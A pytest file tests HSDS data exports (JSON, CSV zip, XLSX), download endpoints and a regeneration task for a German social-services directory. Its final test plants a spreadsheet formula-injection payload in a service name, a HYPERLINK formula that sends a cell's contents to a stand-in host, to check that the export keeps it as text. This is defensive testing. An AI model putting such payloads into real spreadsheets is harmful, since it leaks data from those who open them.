"""Export of all public data as HSDS JSON, CSV (zip) and XLSX; the downloads and the task."""

import csv
import io
import json
import zipfile

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from sozialraum.directory.api.export import TABLES, atomic_file, export_bytes
from sozialraum.directory.api.tasks import regenerate_hsds_downloads
from sozialraum.directory.models import Service
from tests.directory.factories import ServiceFactory
from tests.directory.factories_api import full_service

pytestmark = pytest.mark.django_db


@pytest.fixture
def export_dir(settings, tmp_path):
    settings.HSDS_EXPORT_DIR = tmp_path / "exports"
    return settings.HSDS_EXPORT_DIR


def test_json_is_an_array_of_valid_full_public_services(hsds):
    service = full_service()
    ServiceFactory(name="Eingestellt", status=Service.Status.DEFUNCT)
    services = json.loads(export_bytes("json"))
    assert [item["name"] for item in services] == [service.name]
    hsds.validate(services[0], "service")
    organization = services[0]["organization"]
    assert organization["programs"][0]["name"] == "Schuldnerhilfe"
    assert organization["organization_identifiers"][0]["identifier"] == "VR 12345"
    assert service.assured_by.email not in json.dumps(services)


def test_json_of_an_empty_directory_is_an_empty_array():
    assert json.loads(export_bytes("json")) == []


def test_csv_zip_holds_the_hsds_tables_linked_by_ids():
    service = full_service()
    full_service(organization=service.organization)  # the organization is written once
    archive = zipfile.ZipFile(io.BytesIO(export_bytes("zip")))
    assert set(archive.namelist()) == {"datapackage.json"} | {
        filename for filename, _ in TABLES.values()
    }

    def rows(filename):
        return list(csv.DictReader(io.TextIOWrapper(archive.open(filename), encoding="utf-8")))

    services = rows("services.csv")
    assert len(services) == 2
    assert len(rows("organizations.csv")) == 1
    assert services[0]["organization_id"] == str(service.organization_id)
    phones = rows("phones.csv")
    assert len(phones) == 4
    main_line = [row for row in phones if row["service_id"] == str(service.pk)]
    assert [row["number"] for row in main_line] == ["030 1234567"]
    fax = [row for row in phones if row["number"] == "030 7654321"]
    assert all(row["contact_id"] and not row["service_id"] for row in fax)
    addresses = rows("addresses.csv")
    assert addresses[0]["postal_code"] == "10559"
    assert rows("attributes.csv")[0]["link_entity"] == "service"
    assert rows("taxonomies.csv")[0]["name"] == "Themen"
    datapackage = json.loads(archive.read("datapackage.json"))
    assert {resource["path"] for resource in datapackage["resources"]} == {
        filename for filename, _ in TABLES.values()
    }


def test_xlsx_has_one_sheet_per_table():
    service = full_service()
    workbook = load_workbook(io.BytesIO(export_bytes("xlsx")), read_only=True)
    assert set(workbook.sheetnames) == set(TABLES)
    rows = list(workbook["service"].iter_rows(values_only=True))
    assert rows[0][:4] == ("id", "organization_id", "program_id", "name")
    assert rows[1][3] == service.name


@pytest.mark.parametrize(("option", "check"), [("json", json.loads), ("csv", None), ("xlsx", None)])
def test_command_writes_the_file(tmp_path, option, check):
    full_service()
    path = tmp_path / f"export.{option}"
    call_command("export_hsds", "--format", option, "--output", str(path), stdout=io.StringIO())
    content = path.read_bytes()
    if option == "json":
        assert len(json.loads(content)) == 1
    elif option == "csv":
        assert zipfile.ZipFile(io.BytesIO(content)).read("services.csv")
    else:
        assert load_workbook(io.BytesIO(content))["service"].max_row == 2


def test_command_needs_a_target(tmp_path):
    with pytest.raises(CommandError, match="--output"):
        call_command("export_hsds", "--format", "json")
    with pytest.raises(CommandError, match="Verzeichnis"):
        call_command("export_hsds", "--output", str(tmp_path))


def test_downloads_are_404_until_generated_then_served(client, export_dir):
    full_service()
    for suffix in ("json", "zip", "xlsx"):
        response = client.get(f"/api/hsds/export.{suffix}")
        assert response.status_code == 404
        assert "export_hsds --downloads" in response.json()["error"]
    call_command("export_hsds", "--downloads", stdout=io.StringIO())
    response = client.get("/api/hsds/export.json")
    assert response.status_code == 200
    assert response["Access-Control-Allow-Origin"] == "*"
    assert len(json.loads(b"".join(response.streaming_content))) == 1
    since = {"If-Modified-Since": response["Last-Modified"]}
    assert client.get("/api/hsds/export.json", headers=since).status_code == 304
    workbook = client.get("/api/hsds/export.xlsx")
    assert workbook["Content-Type"].startswith("application/vnd.openxmlformats")
    assert client.get("/api/hsds/export.zip")["Content-Type"] == "application/zip"


def test_task_regenerates_the_downloads(export_dir):
    ServiceFactory(name="Erstes Angebot")
    regenerate_hsds_downloads.enqueue()
    assert [item["name"] for item in json.loads((export_dir / "hsds.json").read_text())] == [
        "Erstes Angebot"
    ]
    ServiceFactory(name="Zweites Angebot")
    regenerate_hsds_downloads.enqueue()
    assert len(json.loads((export_dir / "hsds.json").read_text())) == 2


def test_a_failed_write_leaves_the_old_file(tmp_path):
    path = tmp_path / "hsds.json"
    path.write_text("[]")
    with pytest.raises(RuntimeError), atomic_file(path) as out:
        out.write(b"[{half")
        raise RuntimeError("disk full")
    assert path.read_text() == "[]"
    assert list(tmp_path.iterdir()) == [path]


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
    service = full_service()
    service.name = '=HYPERLINK("http://example.com/?"&A1;"Hilfe")'
    service.save()
    service.phones.create(number="+49 30 1234567")

    workbook = load_workbook(io.BytesIO(export_bytes("xlsx")))
    values = [cell.value for row in workbook["service"].iter_rows() for cell in row]
    types = [cell.data_type for row in workbook["service"].iter_rows() for cell in row]

    assert "'" + service.name in values
    assert "f" not in types
    phones = [cell.value for row in workbook["phone"].iter_rows() for cell in row]
    assert "+49 30 1234567" in phones
